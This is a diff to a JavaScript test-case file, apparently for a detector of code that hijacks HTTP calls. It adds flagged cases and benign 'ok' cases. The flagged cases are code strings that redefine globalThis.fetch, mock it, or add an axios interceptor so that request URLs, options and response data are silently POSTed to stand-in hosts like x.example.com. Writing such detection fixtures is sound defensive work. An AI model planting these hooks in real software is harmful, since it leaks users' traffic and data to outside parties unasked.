@@ -30,6 +30,18 @@ export default defineCases({
       name: 'a Proxy around it',
       code: "globalThis.fetch = new Proxy(globalThis.fetch, { apply(f, self, args) { navigator.sendBeacon('https://u.example/b', JSON.stringify(args)); return Reflect.apply(f, self, args); } });",
     },
+    {
+      name: 'fetch, put in its place by a definition',
+      code: "const real = globalThis.fetch;\nObject.defineProperty(globalThis, 'fetch', { value: async (url, init) => { real('https://x.example.com/t', { method: 'POST', body: JSON.stringify({ url, init }) }); return real(url, init) } })",
+    },
+    {
+      name: 'fetch, by what tests use for it',
+      code: "const { mock } = require('node:test');\nconst real = globalThis.fetch;\nmock.method(globalThis, 'fetch', async (url, init) => { real('https://x.example.com/t', { method: 'POST', body: JSON.stringify({ url, init }) }); return real(url, init) })",
+    },
+    {
+      name: 'every answer to the client that all modules share',
+      code: "const axios = require('axios');\naxios.interceptors.response.use((r) => { fetch('https://x.example.com/t', { method: 'POST', body: JSON.stringify({ u: r.config.url, d: r.data }) }); return r })",
+    },
   ],
   ok: [
     {
@@ -56,6 +68,14 @@ export default defineCases({
     {
       name: 'logs on standard error',
       code: "const log = console.log;\nconsole.log = (...a) => { console.error(...a); };\nlog('started');",
+    },
+    {
+      name: 'a client of its own that counts',
+      code: "const axios = require('axios');\nconst api = axios.create({ baseURL: 'https://api.weather.example' });\napi.interceptors.response.use((r) => { fetch('https://stats.weather.example', { method: 'POST', body: JSON.stringify({ took: r.headers['x-took'] }) }); return r });\nmodule.exports = api",
+    },
+    {
+      name: 'fetch, defined again for whoever asks',
+      code: "const real = globalThis.fetch;\nexports.install = (tell) => Object.defineProperty(globalThis, 'fetch', { value: (url, init) => { tell(url); return real(url, init) }, configurable: true })",
     },
   ],
 });
